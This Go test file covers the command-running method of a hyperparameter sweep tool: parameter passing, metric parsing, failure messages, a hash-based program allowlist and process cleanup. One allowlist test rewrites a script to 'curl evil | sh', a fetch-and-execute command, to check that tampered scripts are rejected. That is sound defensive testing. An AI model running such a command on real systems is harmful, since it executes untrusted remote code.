package command

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"asymptote.dev/asymptote/plugins/sdk"
	"asymptote.dev/asymptote/sweep"
)

func TestMain(m *testing.M) {
	output = io.Discard
	os.Exit(m.Run())
}

// harness runs the command method in this process on programs written to
// a temporary directory, with an allowlist of exactly those programs and
// the interpreters they use.
type harness struct {
	t     *testing.T
	dir   string
	allow map[string]string

	mu      sync.Mutex
	reports []sdk.Metrics
}

func newHarness(t *testing.T) *harness {
	h := &harness{t: t, dir: t.TempDir(), allow: map[string]string{}}
	for _, name := range []string{"sh", "python3"} {
		if p, err := exec.LookPath(name); err == nil {
			h.permit(p)
		}
	}
	return h
}

// permit adds path, as it is now, to the allowlist.
func (h *harness) permit(path string) {
	real, err := filepath.EvalSymlinks(path)
	if err != nil {
		h.t.Fatal(err)
	}
	sum, err := Hash(real)
	if err != nil {
		h.t.Fatal(err)
	}
	h.allow[real] = sum
}

// script writes an executable program and allows it.
func (h *harness) script(name, body string) string {
	p := filepath.Join(h.dir, name)
	if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
		h.t.Fatal(err)
	}
	h.permit(p)
	return p
}

// run runs one trial of c with params and returns its result and error.
func (h *harness) run(ctx context.Context, c sweep.Command, params map[string]any) (*sdk.Result, error) {
	h.t.Helper()
	return h.runWith(ctx, c, params, nil, nil)
}

// runWith is run with the request passed through prep first (to give it
// a checkpoint root or a checkpoint to resume from), and seen called with
// the request after each report.
func (h *harness) runWith(ctx context.Context, c sweep.Command, params map[string]any,
	prep func(*sdk.TrialRequest) *sdk.TrialRequest, seen func(*sdk.TrialRequest, sdk.Metrics)) (*sdk.Result, error) {
	h.t.Helper()
	b, _ := json.Marshal(h.allow)
	h.t.Setenv(AllowEnv, string(b))
	if c.Workdir == "" {
		c.Workdir = h.dir
	}
	cfg, _ := json.Marshal(sweep.MethodConfig{Command: &c})
	req := &sdk.TrialRequest{Study: "s", TrialID: "t1", Attempt: 1, Seed: 7, Threads: 2, Params: params, Config: cfg}
	if prep != nil {
		req = prep(req)
	}
	return New().Run(ctx, req, func(m sdk.Metrics) error {
		h.mu.Lock()
		h.reports = append(h.reports, m)
		h.mu.Unlock()
		if seen != nil {
			seen(req, m)
		}
		return nil
	})
}

func wantError(t *testing.T, err error, parts ...string) {
	t.Helper()
	if err == nil {
		t.Fatalf("no error; want one containing %q", parts)
	}
	for _, p := range parts {
		if !strings.Contains(err.Error(), p) {
			t.Errorf("error %q does not contain %q", err, p)
		}
	}
}

func TestParametersArriveAndMetricsStream(t *testing.T) {
	h := newHarness(t)
	h.script("train.sh", `#!/bin/sh
set -e
# arguments, environment and the JSON file all carry the trial
[ "$1" = "--lr=0.001" ] || { echo "bad arg $1" >&2; exit 9; }
[ "$2" = "--features=8" ] || { echo "bad arg $2" >&2; exit 9; }
[ "$ASYMPTOTE_PARAM_features" = 8 ] || exit 10
[ "$ASYMPTOTE_SEED" = 7 ] || exit 11
[ "$ASYMPTOTE_THREADS" = 2 ] || exit 12
grep -q '"trial_id":"t1"' "$ASYMPTOTE_PARAMS" || exit 13
[ -z "$ASYMPTOTE_ALLOWED_PROGRAMS" ] || exit 14
echo '{"step": 1, "train_loss": 3.5}' >&3
echo '{"step": 2, "train_loss": 2.5, "val_loss": 2.75}' >> "$ASYMPTOTE_METRICS"
echo '{"step": 3, "val_loss": 2.25}' >&3
echo "training done" 
`)
	res, err := h.run(context.Background(), sweep.Command{Program: "train.sh", Args: []string{"--lr={lr}", "--features={features}"}}, map[string]any{"lr": 0.001, "features": 8.0})
	if err != nil {
		t.Fatal(err)
	}
	if res.Metrics["val_loss"] != 2.25 || res.Metrics["train_loss"] != 2.5 {
		t.Errorf("result %v, want the last value of each metric (val_loss 2.25, train_loss 2.5)", res.Metrics)
	}
	if len(h.reports) != 3 || h.reports[0].Step != 1 || h.reports[2].Step != 3 || h.reports[1].Values["val_loss"] != 2.75 {
		t.Errorf("reports %+v, want steps 1, 2, 3 as written", h.reports)
	}
}

// An unmodified argparse script: integer parameters arrive as integers,
// and metrics are read from its output with the spec's pattern.
func TestUnmodifiedPythonScript(t *testing.T) {
	h := newHarness(t)
	if _, err := exec.LookPath("python3"); err != nil {
		t.Fatal("python3 is required (scripts/install-test-deps.sh installs it)")
	}
	h.script("train.py", `import argparse, math
p = argparse.ArgumentParser()
p.add_argument("--features", type=int, required=True)
p.add_argument("--lr", type=float, required=True)
a = p.parse_args()
for epoch in range(1, 4):
    print(f"epoch {epoch} loss {1.0 / (epoch * a.features):.6f} lr {a.lr}", flush=True)
`)
	c := sweep.Command{Program: "train.py", Interpreter: "python3", Args: []string{"--features", "{features}", "--lr", "{lr}"},
		Pattern: `epoch (?P<step>\d+) loss (?P<val_loss>\S+)`}
	res, err := h.run(context.Background(), c, map[string]any{"features": 8.0, "lr": 0.01})
	if err != nil {
		t.Fatal(err)
	}
	if got, want := res.Metrics["val_loss"], 1.0/24; math.Abs(got-want) > 1e-6 {
		t.Errorf("val_loss %g, want %g", got, want)
	}
	if len(h.reports) != 3 || h.reports[2].Step != 3 {
		t.Errorf("reports %+v, want epochs 1 to 3 as steps", h.reports)
	}
}

func TestPythonNonFinite(t *testing.T) {
	h := newHarness(t)
	h.script("diverge.py", `#!/usr/bin/env python3
import json, os
with open(os.environ["ASYMPTOTE_METRICS"], "w") as f:
    f.write(json.dumps({"step": 5, "val_loss": float("nan"), "grad": float("inf")}) + "\n")
`)
	res, err := h.run(context.Background(), sweep.Command{Program: "diverge.py"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !math.IsNaN(res.Metrics["val_loss"]) || !math.IsInf(res.Metrics["grad"], 1) {
		t.Errorf("result %v, want val_loss NaN and grad +Inf", res.Metrics)
	}
}

// Every way a program can go wrong fails the attempt with an error that
// says what happened.
func TestFailures(t *testing.T) {
	for _, tc := range []struct {
		name   string
		body   string
		cmd    sweep.Command
		is     error
		want   []string
		notAll bool
	}{
		{name: "crash", body: "#!/bin/sh\necho 'CUDA error: out of memory' >&2\nexit 3\n",
			want: []string{"exited with status 3", "CUDA error: out of memory"}},
		{name: "killed", body: "#!/bin/sh\nkill -9 $$\n", want: []string{"killed by signal 9", "out of memory?"}},
		{name: "garbage metrics", body: "#!/bin/sh\necho 'loss=3' >&3\nsleep 30\n",
			want: []string{"metrics line 1: not a JSON object", `"loss=3"`}},
		{name: "string metric", body: "#!/bin/sh\necho '{\"val_loss\": \"low\"}' >&3\n",
			want: []string{`metric "val_loss" is the string "low"`}},
		{name: "fractional step", body: "#!/bin/sh\necho '{\"step\": 1.5, \"val_loss\": 1}' >&3\n", want: []string{"step is 1.5; want a whole number"}},
		{name: "line flood", body: "#!/bin/sh\nhead -c 100000 /dev/zero | tr '\\0' x >&3\nsleep 30\n", want: []string{"longer than 64 KiB"}},
		{name: "no metrics", body: "#!/bin/sh\necho hello\n", want: []string{"exited 0 without reporting a metric", "$ASYMPTOTE_METRICS"}},
		{name: "preempted", body: "#!/bin/sh\necho '{\"val_loss\": 2}' >&3\nexit 75\n", is: sdk.ErrPreempted, want: []string{"status 75 (preempted, resume me)"}},
		{name: "missing interpreter", body: "print(1)\n", cmd: sweep.Command{Interpreter: "python9"},
			want: []string{"command.interpreter: python9 is neither in", "nor on PATH"}},
		{name: "missing shebang interpreter", body: "#!/usr/bin/env python9\nprint(1)\n",
			want: []string{"#! interpreter: python9 is neither in"}},
		{name: "not executable", body: "echo hi\n", want: []string{"is not executable and names no interpreter"}},
		{name: "bad pattern value", body: "#!/bin/sh\necho 'loss=abc'\n", cmd: sweep.Command{Pattern: `loss=(?P<val_loss>\S+)`},
			want: []string{`command.pattern: output line 1: val_loss "abc" is not a number`}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newHarness(t)
			p := h.script("prog", tc.body)
			if tc.name == "not executable" {
				_ = os.Chmod(p, 0o644)
			}
			c := tc.cmd
			c.Program = "prog"
			ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
			defer cancel()
			_, err := h.run(ctx, c, nil)
			wantError(t, err, tc.want...)
			if tc.is != nil && !errors.Is(err, tc.is) {
				t.Errorf("error %v does not match %v", err, tc.is)
			}
			if errors.Is(err, context.DeadlineExceeded) {
				t.Errorf("the failure was only noticed at the deadline: %v", err)
			}
		})
	}
}

func TestAllowlist(t *testing.T) {
	h := newHarness(t)
	p := h.script("train.sh", "#!/bin/sh\necho '{\"val_loss\": 1}' >&3\n")
	if _, err := h.run(context.Background(), sweep.Command{Program: "train.sh"}, nil); err != nil {
		t.Fatalf("an allowed script failed: %v", err)
	}
	// The script changes after the agent allowed it.
	if err := os.WriteFile(p, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	_, err := h.run(context.Background(), sweep.Command{Program: "train.sh"}, nil)
	wantError(t, err, p+" changed since the agent allowed it", "-allow-program "+p+"=")
	// A script nobody allowed.
	other := filepath.Join(h.dir, "other.sh")
	_ = os.WriteFile(other, []byte("#!/bin/sh\n"), 0o755)
	_, err = h.run(context.Background(), sweep.Command{Program: other}, nil)
	wantError(t, err, "this agent does not allow "+other, "-allow-program "+other)
	// An allowed script whose interpreter is not allowed.
	sh, _ := exec.LookPath("sh")
	realSh, _ := filepath.EvalSymlinks(sh)
	delete(h.allow, realSh)
	h.script("ok.sh", "#!/bin/sh\necho '{\"val_loss\": 1}' >&3\n")
	_, err = h.run(context.Background(), sweep.Command{Program: "ok.sh"}, nil)
	wantError(t, err, "this agent does not allow "+realSh)
	// No allowlist at all.
	t.Setenv(AllowEnv, "")
	_, err = New().Run(context.Background(), &sdk.TrialRequest{Config: []byte(`{"command":{"program":"ok.sh"}}`)}, nil)
	wantError(t, err, "this agent allows no programs", "-allow-program")
}

func alive(pid int) bool {
	if syscall.Kill(pid, 0) != nil {
		return false
	}
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
	return err == nil && !strings.Contains(string(b), ") Z ")
}

// readPID waits for a program to write a pid to path.
func readPID(t *testing.T, path string) int {
	t.Helper()
	for range 200 {
		b, err := os.ReadFile(path)
		if pid, perr := strconv.Atoi(strings.TrimSpace(string(b))); err == nil && perr == nil {
			return pid
		}
		time.Sleep(25 * time.Millisecond)
	}
	t.Fatalf("no pid in %s", path)
	return 0
}

// A program that forks a child and exits: the result counts, and the
// child does not outlive the attempt.
func TestForkAndExit(t *testing.T) {
	h := newHarness(t)
	pidFile := filepath.Join(h.dir, "child.pid")
	h.script("fork.sh", "#!/bin/sh\nsleep 300 &\necho $! > "+pidFile+"\necho '{\"val_loss\": 1.5}' >&3\n")
	res, err := h.run(context.Background(), sweep.Command{Program: "fork.sh"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Metrics["val_loss"] != 1.5 {
		t.Errorf("result %v", res.Metrics)
	}
	if pid := readPID(t, pidFile); alive(pid) {
		t.Errorf("the program's child %d is still running after the attempt", pid)
	}
}

// A program that hangs is stopped at the deadline: SIGTERM, which it may
// catch to clean up, then SIGKILL after the grace for one that ignores it.
func TestHangStopsAtDeadline(t *testing.T) {
	for _, tc := range []struct {
		name, trap string
	}{
		{"exits on SIGTERM", ""},
		{"ignores SIGTERM", "trap '' TERM\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newHarness(t)
			pidFile := filepath.Join(h.dir, "child.pid")
			h.script("hang.sh", "#!/bin/sh\n"+tc.trap+"sleep 300 &\necho $! > "+pidFile+"\necho '{\"val_loss\": 9}' >&3\nwait\n")
			ctx, cancel := context.WithTimeout(context.Background(), 1500*time.Millisecond)
			defer cancel()
			start := time.Now()
			_, err := h.run(ctx, sweep.Command{Program: "hang.sh", Grace: 500 * time.Millisecond}, nil)
			if !errors.Is(err, context.DeadlineExceeded) {
				t.Fatalf("error %v, want one wrapping context.DeadlineExceeded", err)
			}
			wantError(t, err, "stopped the program")
			if el := time.Since(start); el > 10*time.Second {
				t.Errorf("took %s to stop", el)
			}
			if pid := readPID(t, pidFile); alive(pid) {
				t.Errorf("process %d survived the stop", pid)
			}
		})
	}
}

func TestConfigErrors(t *testing.T) {
	_, err := New().Run(context.Background(), &sdk.TrialRequest{}, nil)
	var pe *sdk.ParamError
	if !errors.As(err, &pe) || pe.Param != "command" {
		t.Errorf("no config: %v, want a ParamError for command", err)
	}
	h := newHarness(t)
	_, err = h.run(context.Background(), sweep.Command{Program: "x", Workdir: "/nonexistent/dir"}, nil)
	wantError(t, err, "command.workdir: /nonexistent/dir is not a directory")
}

func TestParseLine(t *testing.T) {
	for _, tc := range []struct {
		in         string
		step       int64
		hasStep    bool
		values     map[string]float64
		checkpoint string
		err        string
	}{
		{in: `{"step": 3, "loss": 1.5}`, step: 3, hasStep: true, values: map[string]float64{"loss": 1.5}},
		{in: `{"step": 1e3, "loss": -2}`, step: 1000, hasStep: true, values: map[string]float64{"loss": -2}},
		{in: `{"loss": NaN, "x": -Infinity, "y": "Infinity"}`, values: map[string]float64{"loss": math.NaN(), "x": math.Inf(-1), "y": math.Inf(1)}},
		{in: `{"note NaN": 1}`, values: map[string]float64{"note NaN": 1}},
		{in: `[1, 2]`, err: "not a JSON object"},
		{in: `{"a": 1} {"b": 2}`, err: "not a JSON object"},
		{in: `{"a": true}`, err: `metric "a" is the bool true`},
		{in: `{"a": {"b": 1}}`, err: `metric "a" is an object`},
		{in: `{"step": "x"}`, err: "step is x"},
		{in: `{"step": 5, "loss": 1, "checkpoint": "ck-5"}`, step: 5, hasStep: true, values: map[string]float64{"loss": 1}, checkpoint: "ck-5"},
		{in: `{"step": 5, "checkpoint": "ck-5"}`, step: 5, hasStep: true, values: map[string]float64{}, checkpoint: "ck-5"},
		{in: `{"checkpoint": 5}`, err: "checkpoint is 5; want the name of the directory"},
		{in: `{"checkpoint": ""}`, err: "want the name of the directory"},
	} {
		rep, err := parseLine([]byte(tc.in))
		step, hasStep, values := rep.step, rep.hasStep, rep.values
		if tc.err != "" {
			if err == nil || !strings.Contains(err.Error(), tc.err) {
				t.Errorf("%s: error %v, want %q", tc.in, err, tc.err)
			}
			continue
		}
		if err != nil {
			t.Errorf("%s: %v", tc.in, err)
			continue
		}
		if step != tc.step || hasStep != tc.hasStep || len(values) != len(tc.values) || rep.checkpoint != tc.checkpoint {
			t.Errorf("%s: step %d %v values %v checkpoint %q, want %d %v %v %q", tc.in, step, hasStep, values, rep.checkpoint, tc.step, tc.hasStep, tc.values, tc.checkpoint)
		}
		for k, want := range tc.values {
			got, ok := values[k]
			if !ok || (got != want && !(math.IsNaN(got) && math.IsNaN(want))) {
				t.Errorf("%s: %s = %v, want %v", tc.in, k, got, want)
			}
		}
	}
}

// TestExamples runs the first trial of each example study of the command
// method (examples/script-*.yaml) on its real script: the spec, the script
// and the pattern agree, and the objective comes back.
func TestExamples(t *testing.T) {
	root, err := filepath.Abs("../../..")
	if err != nil {
		t.Fatal(err)
	}
	specs, _ := filepath.Glob(filepath.Join(root, "examples", "script-*.yaml"))
	if len(specs) < 2 {
		t.Fatalf("found %d example scripts' specs, want the torch and the shell one", len(specs))
	}
	for _, path := range specs {
		t.Run(filepath.Base(path), func(t *testing.T) {
			spec, err := sweep.ParseFile(path)
			if err != nil {
				t.Fatal(err)
			}
			trials, err := spec.Expand()
			if err != nil {
				t.Fatal(err)
			}
			h := newHarness(t)
			c := *spec.Command
			c.Workdir = root
			prog := filepath.Join(root, c.Program)
			h.permit(prog)
			if c.Interpreter != "" {
				h.permit(c.Interpreter)
			}
			cfg, _ := json.Marshal(sweep.MethodConfig{Command: &c})
			b, _ := json.Marshal(h.allow)
			t.Setenv(AllowEnv, string(b))
			tr := trials[0]
			req := &sdk.TrialRequest{Study: spec.Name, TrialID: tr.ID, Attempt: 1, Seed: tr.Seed, Threads: 1, Params: tr.Params, Config: cfg}
			var steps int
			res, err := New().Run(context.Background(), req, func(sdk.Metrics) error { steps++; return nil })
			if err != nil {
				t.Fatal(err)
			}
			obj, ok := res.Metrics[spec.Objective.Metric]
			if !ok || math.IsNaN(obj) || obj <= 0 {
				t.Errorf("result %v lacks a positive %s", res.Metrics, spec.Objective.Metric)
			}
			if steps < 2 {
				t.Errorf("%d reports, want one a step", steps)
			}
			if _, ok := res.Metrics["params"]; !ok {
				t.Errorf("result %v lacks params", res.Metrics)
			}
		})
	}
}
